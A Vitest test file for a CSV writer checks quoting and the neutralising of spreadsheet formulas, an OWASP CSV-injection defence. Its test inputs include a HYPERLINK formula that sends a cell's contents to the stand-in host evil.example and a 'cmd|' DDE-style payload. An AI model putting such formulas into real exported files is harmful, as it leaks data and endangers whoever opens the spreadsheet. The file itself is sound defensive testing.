import { describe, expect, it } from 'vitest';
import { neutraliseCsvText, restoreCsvText, toCsv } from './csv.ts';

describe('toCsv', () => {
	it('quotes what needs quoting and leaves blanks for missing values', () => {
		const csv = toCsv(
			[
				{ group: 'Lower Than A Level', rate: 0.5 },
				{ group: 'say "hi", then', rate: null }
			],
			[
				{ key: 'group', label: 'Group', value: (r) => r.group },
				{ key: 'rate', label: 'Rate', value: (r) => r.rate }
			]
		);
		expect(csv).toBe('group,rate\r\nLower Than A Level,0.5\r\n"say ""hi"", then",\r\n');
	});
});

// Imported values reached spreadsheets as formulas through the one writer
// (docs/decisions/0007-neutralise-csv-formulas.md).
describe('toCsv neutralises formulas (OWASP CSV injection)', () => {
	const column = [{ key: 'v', label: 'v', value: (r: { v: string | number }) => r.v }];
	const cellOf = (v: string | number) => toCsv([{ v }], column, { header: false }).replace(/\r\n$/, '');

	it('prefixes a quote to a cell a spreadsheet would evaluate', () => {
		expect(cellOf('=1+2')).toBe("'=1+2");
		expect(cellOf('=HYPERLINK("http://evil.example/?leak="&A2,"x")')).toBe(
			`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")"`
		);
		expect(cellOf('+1')).toBe("'+1");
		expect(cellOf('-2+3+cmd|x')).toBe("'-2+3+cmd|x");
		expect(cellOf('@SUM(A1)')).toBe("'@SUM(A1)");
		expect(cellOf('\t=1')).toBe("'\t=1");
		expect(cellOf('\r=1')).toBe(`"'\r=1"`);
	});

	it('leaves numbers, negative ones too, and ordinary text alone', () => {
		expect(cellOf(-3)).toBe('-3');
		expect(cellOf('-3')).toBe('-3');
		expect(cellOf('-0.25')).toBe('-0.25');
		expect(cellOf('-1e5')).toBe('-1e5');
		expect(cellOf('a=b')).toBe('a=b');
		expect(cellOf("'quoted")).toBe("'quoted");
		expect(cellOf('0-10%')).toBe('0-10%');
	});

	it('is undone exactly by the reader, whatever the text (a value beginning with a quote too)', () => {
		for (const v of ['=1+2', "'=1+2", "''@x", '-', '-x', "'", "'-3", '-3', 'plain', '', "'plain"])
			expect(restoreCsvText(neutraliseCsvText(v)), JSON.stringify(v)).toBe(v);
	});
});
